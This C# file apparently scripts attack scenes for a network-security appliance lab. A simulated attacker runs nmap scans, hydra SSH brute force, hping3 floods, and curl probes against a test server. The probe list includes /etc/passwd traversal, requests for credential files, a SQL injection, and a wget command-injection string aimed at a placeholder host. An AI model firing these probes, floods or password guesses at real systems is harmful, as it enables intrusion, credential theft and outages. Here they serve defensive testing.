using System.Globalization;
using System.Net;
using System.Net.Sockets;
using Blackwall.Lab.Edge;
using Blackwall.Lab.Network;

namespace Blackwall.Lab.Story.Scenes;

/// <summary>The scenes of <c>./blackwall lab</c>, in order. Each attack comes from an address of its own.</summary>
public static class Scenario
{
    private static readonly TimeSpan s_scanLimit = TimeSpan.FromSeconds(45);
    private static readonly TimeSpan s_loginLimit = TimeSpan.FromSeconds(90);

    private static readonly string[] s_probes =
        ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/../../../../etc/passwd", "/cgi-bin/luci",
         "/admin/config.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/solr/admin/info/system",
         "/actuator/env", "/.aws/credentials", "/?id=1%27%20UNION%20SELECT%201,2,3--", "/shell?cd+/tmp;wget+http://x/y", "/HNAP1/",
         "/server-status", "/backup.sql", "/config.json", "/xmlrpc.php", "/manager/html"];

    public static IReadOnlyList<IScene> Scenes(ApplianceSettings settings) =>
    [
        new PeaceScene(settings),
        Scan("SYN scan (nmap -sS)", "-sS", 0, v6: false),
        Scan("Connect scan (nmap -sT)", "-sT", 1, v6: false),
        Stealth("XMAS scan (nmap -sX)", "-sX", 2),
        Stealth("NULL scan (nmap -sN)", "-sN", 3),
        Scan("SYN scan over IPv6 (nmap -6)", "-sS", 4, v6: true),
        new AssaultScene("HTTP probing (curl)", "asks the web server for files that only attackers ask for", stage => Task.FromResult(HttpProbing(stage))),
        new TogetherScene("Scans at other speeds and guessing at every service", [.. ScanActs.All(1), .. GuessingActs.All(11)]),
        new FingerprintScene(),
        new SpoofedFloodScene(),
        new FloodScene("UDP flood (hping3)", "udp", 14, "--udp", "-p", "9"),
        new FloodScene("ICMP flood (hping3)", "icmp", 15, "--icmp"),
        new InsideScene(),
        new OperatorScene(),
        new LockOutScene(settings),
        new RedirectScene(),
        new CrashScene(settings),
        new CleanStopScene(),
    ];

    /// <summary>A port scan with nmap, as a user would type it.</summary>
    public static Assault PortScan(LabHost attacker, LabHost server, string technique, int address, bool v6)
    {
        var source = v6 ? attacker.Addresses6[address] : attacker.Addresses4[address];
        var target = v6 ? server.Addresses6[0] : server.Addresses4[0];
        List<string> command = ["nmap", technique, "-Pn", "-n", "-T4", "--max-retries", "2", "--host-timeout", "60s", "-p", "1-1000", target.ToString()];
        if (v6)
        {
            command.Insert(1, "-6");
        }

        return new Assault(attacker, source, new IPEndPoint(target, 80), [command], s_scanLimit);
    }

    /// <summary>A scan whose packets have impossible flags; only those are counted.</summary>
    public static Assault Stealth(Stage stage, string technique, int address) =>
        PortScan(stage.Network.Attacker, stage.Network.Server, technique, address, v6: false) with
        {
            Counted = "tcp[tcpflags] & (tcp-syn|tcp-ack|tcp-rst) == 0",
        };

    private static AssaultScene Scan(string title, string technique, int address, bool v6) =>
        new(title, "scans the server's first 1000 ports", stage => Task.FromResult(PortScan(stage.Network.Attacker, stage.Network.Server, technique, address, v6)));

    private static StealthScene Stealth(string title, string technique, int address) =>
        new(title, "sends packets with flags that no stack sends", stage => Task.FromResult(Stealth(stage, technique, address)));

    /// <summary>Password guessing with hydra, four at a time.</summary>
    public static Assault BruteForce(Stage stage)
    {
        var list = GuessingActs.WordList(stage);
        var (attacker, server) = (stage.Network.Attacker, stage.Network.Server);
        return new Assault(
            attacker,
            attacker.Addresses4[5],
            new IPEndPoint(server.Addresses4[0], 22),
            [["hydra", "-I", "-l", "root", "-P", list, "-t", "4", "-w", "5", $"ssh://{server.Addresses4[0]}"]],
            s_loginLimit);
    }

    /// <summary>Requests for files that only attackers ask for.</summary>
    public static Assault HttpProbing(Stage stage)
    {
        var (attacker, server) = (stage.Network.Attacker, stage.Network.Server);
        return new Assault(
            attacker,
            attacker.Addresses4[6],
            new IPEndPoint(server.Addresses4[0], 80),
            [.. s_probes.Select(path => (IReadOnlyList<string>)["curl", "-s", "-o", "/dev/null", "--path-as-is", "--max-time", "2", $"http://{Host(server.Addresses4[0])}{path}"])],
            s_scanLimit);
    }

    private static string Host(IPAddress address) =>
        string.Create(CultureInfo.InvariantCulture, $"{(address.AddressFamily == AddressFamily.InterNetworkV6 ? $"[{address}]" : address)}");
}
